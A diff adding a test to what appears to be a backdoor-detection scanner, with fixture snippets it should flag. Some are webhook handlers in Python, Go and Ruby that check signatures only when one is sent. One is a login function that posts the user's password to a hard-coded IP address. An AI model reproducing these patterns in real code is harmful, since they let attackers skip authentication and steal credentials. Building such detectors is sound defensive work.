@@ -1303,3 +1303,41 @@ test('session 22: a retention cutoff moved after a date (Python, Java) and a jwt
     rules('k.py', jwtOff).join(),
   );
 });
+
+test('session 22: a signature verified only when sent (Python, Go, Ruby, credentials through a sending helper); refusals first are not', () => {
+  const found: [string, string][] = [
+    [
+      'w.py',
+      'def hook(request):\n    sig = request.headers.get("X-Sig")\n    if sig:\n        verify_hmac(request.body, sig)\n    return process(request.body)\n',
+    ],
+    [
+      'w.go',
+      'func hook(w http.ResponseWriter, r *http.Request) {\n\tsig := r.Header.Get("X-Sig")\n\tif sig != "" {\n\t\tverifySig(body, sig)\n\t}\n\tprocess(body)\n}\n',
+    ],
+    [
+      'w.rb',
+      'def hook\n  sig = request.headers["X-Sig"]\n  if !!sig\n    verify_signature!(request.raw_post, sig)\n  end\n  process\nend\n',
+    ],
+  ];
+  for (const [path, text] of found)
+    assert.ok(
+      rules(path, text).some((r) => r.startsWith('backdoor.verify-if-present')),
+      `${path}: ${rules(path, text)}`,
+    );
+  const refusedFirst =
+    'def hook(request):\n    sig = request.headers.get("X-Sig")\n    if not sig:\n        raise PermissionDenied()\n    if sig:\n        verify_hmac(request.body, sig)\n';
+  assert.deepEqual(rules('r.py', refusedFirst), []);
+  const sent =
+    'URL = "https://203.0.113.5/c"\ndef _send(u, p):\n    requests.post(u, json=p)\n\ndef login(user, password):\n    self._send(URL, {"u": user, "p": password})\n';
+  assert.ok(
+    rules('s.py', sent).some((r) => r.startsWith('backdoor.secret-to-host')),
+    rules('s.py', sent).join(),
+  );
+  assert.deepEqual(
+    rules(
+      't.py',
+      'URL = "https://203.0.113.5/c"\ndef _send(u, p):\n    requests.post(u, json=p)\n\ndef tick(n):\n    _send(URL, {"count": n})\n',
+    ),
+    [],
+  );
+});
